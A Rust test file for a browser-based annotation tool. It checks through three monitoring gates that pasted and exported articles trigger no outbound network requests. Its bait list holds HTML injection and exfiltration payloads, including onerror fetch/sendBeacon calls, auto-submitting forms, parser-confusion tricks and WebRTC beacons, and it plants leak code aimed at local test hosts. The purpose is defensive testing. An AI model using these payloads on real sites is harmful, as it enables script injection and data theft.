//! Nothing leaves, proved: a person's work with an article full of bait, watched at three gates. The browser's own record
//! of requests (A), a proxy that all of its HTTP goes through (B), and listeners for TCP and UDP (C), which `cargo xtask
//! leaks` puts into a network of their own, where every address on earth leads to them, and every name server.
//!
//! Each gate is shown to see what is planted with the policy set aside. What one is blind to another sees.

use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;

use anyhow::{Context, Result, ensure};
use postil_browser::{
    Browser, DRIVER_VARIABLE, FOLDER_VARIABLE, Key, Kind, Listener, NETWORK_VARIABLE, Page, Proxy, Recording,
};
use serde_json::json;

use crate::site::without_policy;
use crate::steps::{detected, export, leave, saved, wait_for_marks};

/// What every bait's address holds, and nothing else does.
const TOKEN: &str = "bait7f3a";

/// Elements that ask for something as soon as they are part of a page, or are clicked. `{}` is an address with its token.
const BAIT: [&str; 28] = [
    "<img src='{}'>",
    "<img srcset='{} 2x' src='{}'>",
    "<picture><source srcset='{}'><img alt=x></picture>",
    "<a href='{}' ping='{}'>Acme Corp</a>",
    "<link rel=stylesheet href='{}'>",
    "<link rel=prefetch href='{}'>",
    "<link rel=preconnect href='{}'>",
    "<link rel=dns-prefetch href='{}'>",
    "<link rel=preload as=image href='{}'>",
    "<link rel=manifest href='{}'>",
    "<link rel=icon href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href='{}'>",
    "<style>@import '{}'; @font-face { font-family: bait; src: url({}) } body { font-family: bait; background: url({}) }</style>",
    "<p style=\"background: url('{}'); list-style: url('{}')\">Beta Ltd paid $5m.</p>",
    "<table background='{}'><tr><td>4%</table>",
    "<svg><image href='{}'/><use href='{}#a'/><script>fetch('{}')</script></svg>",
    "<form action='{}' id=f><input name=q value=secret><button>Go</button></form><script>f.submit()</script>",
    "<iframe src='{}'></iframe>",
    "<iframe srcdoc=\"<img src='{}'>\"></iframe>",
    "<object data='{}'></object><embed src='{}'>",
    "<video poster='{}' src='{}' autoplay><track src='{}' default></video><audio src='{}' autoplay></audio>",
    "<script src='{}'></script>",
    "<script>new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]}).createDataChannel('{}')</script>",
    "<img src=x onerror=\"fetch('{}'); navigator.sendBeacon('{}'); new WebSocket('{}')\">",
    "<input type=image src='{}'>",
    "<math><mtext></form><form><mglyph><style></math><img src='{}'></style>",
    "<noscript><p title=\"</noscript><img src='{}'>\"></noscript>",
];

/// A web page of bait, whose addresses are all at these hosts in turn.
fn bait(hosts: &[&str]) -> String {
    let mut html = String::from("<html><head><title>Bait</title></head><body><h1>Acme Corp buys Beta Ltd</h1>\n");
    html.push_str("<p>By Jane Doe</p><p>Acme Corp paid $3m to Beta Ltd on Tuesday in Paris. The deal is done.</p>\n");
    let mut number = 0;
    for element in BAIT {
        let mut parts = element.split("{}");
        html.push_str(parts.next().unwrap_or_default());
        for part in parts {
            number += 1;
            html.push_str(&format!("http://{}/{TOKEN}-{number}{part}", hosts[number % hosts.len()]));
        }
        html.push('\n');
    }
    html.push_str("</body></html>");
    html.replace("HOST", hosts[0])
}

/// Does what a person does, with the bait in every way that something comes in.
async fn work(page: &Page, hosts: &[&str]) -> Result<()> {
    let html = bait(hosts);
    page.open().await?;
    page.testid("paste-box").await?;
    page.paste_html(&html, "Acme Corp buys Beta Ltd").await?;
    detected(page).await?;
    page.select_text("[data-testid=article]", "The deal", 0).await?;
    page.click_testid("label-EVENT").await?;
    wait_for_marks(page, "The deal", &[("EVENT", "accepted")]).await?;
    page.press(&[Key::Escape.into()]).await?;
    page.click_testid("undo").await?;
    wait_for_marks(page, "The deal", &[]).await?;
    // The bait as plain words, so that its addresses are in what is exported too.
    page.click_testid("new").await?;
    page.testid("paste-box").await?;
    page.paste_text(&html).await?;
    detected(page).await?;
    saved(page).await?;
    export(page).await?;
    let mut files =
        vec![("bait.html".to_owned(), html.clone().into_bytes()), ("bait.md".to_owned(), html.into_bytes())];
    page.click_testid("export").await?;
    page.testid("format-doccano").await?;
    let ids =
        page.eval("[...document.querySelectorAll('[name=format]')].map((it) => it.dataset.testid.slice(7))").await?;
    let ids: Vec<String> = serde_json::from_value(ids)?;
    ensure!(ids.len() > 8, "only {ids:?}");
    for id in ids {
        page.click_testid(&format!("format-{id}")).await?;
        let ready = format!(
            "document.querySelector('[data-testid=\"format-{id}\"]').checked
                && document.querySelector('[data-testid=proof]').dataset.state === 'done'
                && !document.querySelector('[data-testid=download]').disabled"
        );
        page.wait_for(&format!("the file of {id}"), &ready).await?;
        page.click_testid("download").await?;
        let file = page.download().await.with_context(|| format!("the file of {id}"))?;
        files.push((file.name, file.content));
        page.click_testid("export").await?;
        page.testid("format-doccano").await?;
    }
    page.press(&[Key::Escape.into()]).await?;
    page.wait_for("the dialog to close", "!document.querySelector('dialog[open]')").await?;
    let ours: Vec<(&str, &[u8])> = files.iter().map(|(name, content)| (name.as_str(), content.as_slice())).collect();
    page.drop_files("body", &ours).await?;
    page.testid("import-sum").await?;
    page.click_testid("import-done").await?;
    saved(page).await?;
    page.reload().await?;
    page.testid("article").await?;
    page.wait_for("the library", "document.querySelectorAll('.shelf').length > 3").await.map(|_| ())
}

/// The part of an address before its path: `127.0.0.1:8000`.
fn host_of(url: &str) -> &str {
    url.split('/').nth(2).unwrap_or_default()
}

/// Fails when one of these addresses is not of the page's own files, or holds a token.
fn own_only<'a>(page: &Page, gate: &str, urls: impl Iterator<Item = &'a str>) -> Result<()> {
    let origin = format!("http://{}/", host_of(page.url()));
    for url in urls {
        let own = url.starts_with(page.url()) || url.starts_with("data:") || url.starts_with(&format!("blob:{origin}"));
        ensure!(own && !url.contains(TOKEN), "gate {gate} saw {url}");
    }
    Ok(())
}

async fn listener() -> Result<Listener> {
    Listener::start(SocketAddr::from((Ipv4Addr::LOCALHOST, 0))).await
}

/// Gate A, and C for what goes to this machine.
pub(crate) async fn nothing_is_asked_for_with_bait(page: Page) -> Result<()> {
    let there = listener().await?;
    work(&page, &[&format!("127.0.0.1:{}", there.port())]).await?;
    let requests = page.requests().await?;
    ensure!(requests.iter().any(|request| request.url.ends_with(".wasm")), "the record misses the page's own module");
    own_only(&page, "A", requests.iter().map(|request| request.url.as_str()))?;
    assert_eq!(page.policy_violations().await?, Vec::<String>::new());
    assert_eq!(there.take(), Vec::<String>::new(), "gate C");
    Ok(())
}

/// The page in a browser all of whose HTTP goes through the proxy: for Chromium one of its own, which is the second.
async fn behind(outer: &Page, proxy: &Proxy, name: &str) -> Result<(Page, Option<Browser>)> {
    if outer.kind() == Kind::Firefox {
        outer.through_proxy(Some(proxy.port())).await?;
        return Ok((outer.clone(), None));
    }
    let setting = |name: &str| std::env::var(name).with_context(|| format!("{name} is not set"));
    let (driver, folder) = (setting(DRIVER_VARIABLE)?, PathBuf::from(setting(FOLDER_VARIABLE)?).join(name));
    let to_maker = "--disable-features=AutofillServerCommunication,OptimizationHints,MediaRouter,Translate";
    let switches = [
        format!("--proxy-server=127.0.0.1:{}", proxy.port()),
        "--proxy-bypass-list=<-loopback>".to_owned(),
        to_maker.to_owned(),
    ];
    let browser = Browser::start_with(&driver, &folder, Recording::On, &switches).await?;
    Ok((browser.page(outer.url()).await?, Some(browser)))
}

/// Ends what [`behind`] began.
async fn leave_proxy(outer: &Page, browser: Option<Browser>) -> Result<()> {
    match browser {
        Some(browser) => browser.quit().await,
        None => outer.through_proxy(None).await,
    }
}

/// Whom browsers talk to by themselves, in spite of all switches: their makers, and the start page of Debian's Chromium. What
/// goes there is none of the page's: its policy allows no other host, and nothing of it holds a token.
const MAKERS: [&str; 6] =
    [".googleapis.com", ".google.com", ".duckduckgo.com", ".mozilla.com", ".mozilla.net", ".firefox.com"];

/// The addresses of requests that a proxy saw, but for the browser's own.
fn addresses(lines: &[String]) -> impl Iterator<Item = &str> {
    let own = |url: &&str| {
        let host = if url.contains("://") { host_of(url) } else { url.trim_end_matches(":443") };
        !MAKERS.iter().any(|maker| host.ends_with(maker)) || url.contains(TOKEN)
    };
    lines.iter().filter_map(|line| line.split(' ').nth(1)).filter(own)
}

/// Gate B, which sees workers of every kind, with C.
pub(crate) async fn nothing_passes_the_proxy_with_bait(outer: Page) -> Result<()> {
    let there = listener().await?;
    let proxy = Proxy::start(&[host_of(outer.url())]).await?;
    let (page, browser) = behind(&outer, &proxy, "leaks").await?;
    let worked = work(&page, &[&format!("127.0.0.1:{}", there.port())]).await;
    let seen = proxy.take();
    leave_proxy(&outer, browser).await?;
    worked?;
    let seen: Vec<&str> = addresses(&seen).collect();
    for file in [".wasm", ".js"] {
        ensure!(seen.iter().any(|url| url.ends_with(file)), "the proxy misses the page's own {file}");
    }
    own_only(&page, "B", seen.into_iter())?;
    assert_eq!(there.take(), Vec::<String>::new(), "gate C");
    Ok(())
}

/// Ways out, from the page's own code: the driver's calls are not held by the policy. `AT` is `host/token`.
const WAYS: [(&str, &str); 5] = [
    ("fetch", "fetch('http://AT-fetch').catch(() => {})"),
    ("image", "(new Image).src = 'http://AT-image'"),
    ("beacon", "navigator.sendBeacon('http://AT-beacon', 'x')"),
    ("socket", "new WebSocket('ws://AT-socket')"),
    (
        "webrtc",
        "(() => { const c = new window.__rtc({ iceServers: [{ urls: 'stun:HOST' }] }); c.createDataChannel('x'); \
        c.createOffer().then((o) => c.setLocalDescription(o)); window.__connection = c; })()",
    ),
];

/// Plants all ways out in an open page, and waits until what can be sent was.
async fn plant(page: &Page, host: &str) -> Result<()> {
    for (_, way) in WAYS {
        let way = way.replace("AT", &format!("{host}/{TOKEN}")).replace("HOST", host);
        page.call(&format!("setTimeout(() => {{ try {{ {way} }} catch {{}} }}, 0); return null;"), &[]).await?;
    }
    Ok(())
}

/// Keeps what the page deletes at its start, for [`WAYS`].
const KEEP_WEBRTC: &str = "window.__rtc = window.RTCPeerConnection;";

/// With the policy set aside and leaks planted each gate reports what it is there for. With the policy in force, of the
/// same leaks those that it can stop are stopped.
pub(crate) async fn each_gate_sees_what_is_planted(outer: Page) -> Result<()> {
    let there = listener().await?;
    let host = format!("127.0.0.1:{}", there.port());
    let aside = without_policy()?;
    let proxy = Proxy::start(&[host_of(outer.url()), host_of(&aside.url)]).await?;
    let (page, browser) = behind(&outer, &proxy, "planted").await?;
    let tried = async {
        let first = page.tab_with_script(KEEP_WEBRTC).await?;
        page.open().await?;
        page.requests().await?;
        drop((proxy.take(), there.take()));
        plant(&page, &host).await?;
        let refused = "window.__violations.filter((seen) => seen.includes('bait7f3a')).length >= 4";
        page.wait_for("the policy to refuse what it can", refused).await?;
        // The record holds tries that were refused too; what counts is what came through.
        let seen = proxy.take();
        ensure!(addresses(&seen).all(|url| !url.contains(TOKEN) && !url.contains(&host)), "gate B saw {seen:?}");
        let seen = there.take();
        ensure!(seen.iter().all(|seen| seen.starts_with("UDP")), "gate C saw {seen:?}");
        let page = page.at(&aside.url);
        page.open().await?;
        page.requests().await?;
        drop(proxy.take());
        plant(&page, &host).await?;
        let (mut by_record, mut by_proxy, mut by_listener) = (Vec::new(), Vec::new(), there.take());
        for _ in 0..400 {
            by_record.extend(page.requests().await?.into_iter().map(|request| request.url));
            by_proxy.extend(proxy.take());
            by_listener.extend(there.take());
            let all = |seen: &[String], ways: &[&str]| {
                ways.iter().all(|way| seen.iter().any(|seen| seen.contains(&format!("{TOKEN}-{way}"))))
            };
            let tunnel = by_proxy.iter().any(|line| line.starts_with(&format!("CONNECT {host}")));
            if all(&by_record, &["fetch", "image", "beacon", "socket"])
                && all(&by_proxy, &["fetch", "image", "beacon"])
                && tunnel
                && by_listener.iter().any(|seen| seen.starts_with("UDP"))
            {
                return leave(&page, first).await;
            }
            page.eval("new Promise((done) => setTimeout(done, 25))").await?;
        }
        anyhow::bail!("the gates saw: A {by_record:?}; B {by_proxy:?}; C {by_listener:?}")
    };
    let outcome = tried.await;
    leave_proxy(&outer, browser).await?;
    outcome
}

/// Gate C, in a network of its own: every address leads here, name servers too, and nobody asks for one.
pub(crate) async fn no_name_is_looked_up_and_no_address_reached(page: Page) -> Result<()> {
    if std::env::var_os(NETWORK_VARIABLE).is_none() {
        println!("    not in a network of its own (`cargo xtask leaks` makes one where it may): gates A and B count");
        return Ok(());
    }
    let everywhere = |port| Listener::start(SocketAddr::from((Ipv4Addr::UNSPECIFIED, port)));
    let (names, web) = (everywhere(53).await?, everywhere(80).await?);
    // That it works is seen first: a name of ours is asked for, and an address that is nobody's is reached.
    let aside = without_policy()?;
    let planted = page.at(&aside.url);
    planted.open().await?;
    for url in ["http://192.0.2.1/planted", "http://planted.example.test/"] {
        let ask = "setTimeout(() => fetch(arguments[0], { mode: 'no-cors' }).catch(() => {}), 0);";
        planted.call(ask, &[json!(url)]).await?;
    }
    let (mut reached, mut asked) = (false, false);
    for _ in 0..400 {
        reached |= web.take().iter().any(|seen| seen.contains("planted"));
        asked |= names.take().iter().any(|seen| seen.contains("planted"));
        if reached && asked {
            break;
        }
        page.eval("new Promise((done) => setTimeout(done, 25))").await?;
    }
    ensure!(reached && asked, "the closed network misses what is planted: an address {reached}, a name {asked}");
    page.driver().goto("about:blank").await?;
    drop((names.take(), web.take()));
    work(&page, &["bait.example.test", "192.0.2.1"]).await?;
    let ours = |seen: &String| seen.contains(TOKEN) || seen.contains("bait") || seen.starts_with("TCP ");
    let seen: Vec<String> = names.take().into_iter().chain(web.take()).filter(ours).collect();
    ensure!(seen.is_empty(), "gate C saw {seen:?}");
    Ok(())
}
